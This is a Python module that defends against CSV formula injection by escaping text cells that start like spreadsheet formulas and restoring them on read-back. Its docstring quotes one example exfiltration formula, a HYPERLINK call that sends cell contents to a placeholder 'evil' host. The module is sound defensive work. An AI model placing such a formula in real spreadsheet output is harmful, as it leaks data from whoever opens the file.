"""Spreadsheet-formula neutralisation for every CSV the tool writes (CSV injection, OWASP's rule).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice
and Google Sheets when a clinician opens the file: a reviewer's note `=HYPERLINK("http://evil/?"&A1, "x")` would
send data away. Such a cell is written with a leading `'`, which spreadsheets show as text. Only text cells
(and column names) are touched; numbers, including negative ones, are written as numbers.

The tool's own readers of its CSVs (`labels.csv`, roles files; `restore`) drop that `'` again, so an image named
`-scan.png` keeps its name through a round trip. (A value that itself starts with `'` followed by one of those
characters would lose its `'`: a price we accept for files meant to be opened in a spreadsheet.)
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise(value: Any) -> Any:
    """`value` with a leading `'` when it is text starting like a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return ESCAPE + value
    return value


def restore(value: Any) -> Any:
    """The inverse of `neutralise` for text read back from a CSV this tool wrote."""
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:2] and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def neutralise_frame(frame):
    """A copy of a DataFrame with every text cell and column name neutralised."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out
